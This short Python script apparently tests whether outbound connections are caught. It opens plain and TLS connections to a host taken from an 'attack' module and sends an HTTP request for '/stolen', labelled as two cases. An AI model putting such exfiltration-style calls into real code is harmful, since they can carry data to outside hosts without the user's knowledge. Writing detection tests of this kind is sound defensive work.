import asyncio
import ssl

from attack import HOST, does

NAME, PORT = HOST.split(":")


async def send(**more):
    _, writer = await asyncio.open_connection(NAME, int(PORT), **more)
    writer.write(b"GET /stolen HTTP/1.1\r\n\r\n")
    await writer.drain()


does("a stream", lambda: asyncio.run(send()))
does("an encrypted stream", lambda: asyncio.run(send(ssl=ssl.create_default_context())))
